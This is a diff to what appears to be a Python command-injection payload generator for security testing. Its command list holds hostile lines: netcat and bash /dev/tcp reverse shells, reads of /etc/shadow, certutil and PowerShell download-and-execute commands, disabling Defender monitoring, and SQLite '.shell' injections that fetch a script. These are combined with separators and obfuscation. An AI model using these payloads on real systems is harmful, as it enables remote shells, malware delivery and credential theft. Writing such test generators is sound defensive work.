@@ -232,7 +232,9 @@ COMMANDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la", "ping -c 3 
             "nc -e /bin/sh x.example 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "echo vulnerable",
             "powershell -c iex", "cmd /c dir", "net user", "type c:\\windows\\win.ini", "dir c:\\",
             "/bin/cat /etc/shadow", "python -c 'import os'", "perl -e 'print 1'", "php -r 'echo 1;'",
-            "rm -rf /tmp/x", "chmod +x /tmp/a", "busybox telnetd", "certutil -urlcache -f http://x.example/a a.exe"]
+            "rm -rf /tmp/x", "chmod +x /tmp/a", "busybox telnetd", "certutil -urlcache -f http://x.example/a a.exe",
+            "Invoke-WebRequest http://x.example/a.ps1 -OutFile a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://x.example/')",
+            "Get-Content C:\\secrets.txt", "Set-MpPreference -DisableRealtimeMonitoring $true", "Start-Process notepad.exe"]
 CMD_OBFUSCATE = [
     lambda c: c,
     lambda c: c.replace(" ", "${IFS}"),
@@ -253,6 +255,8 @@ def cmdi():
             lead = RNG.choice(["", "127.0.0.1", "x", "a.txt", "'", "\""])
             closing = ")" if sep == "$(" else ("`" if sep == "`" else "")
             out.append(f"{lead}{sep}{ob(cmd)}{closing}")
+    # SQLite's shell, when a value reaches `sqlite3` as input.
+    out += [".shell id", ".system cat /etc/passwd", "x;\n.shell curl http://x.example/s.sh"]
     return out
 
 
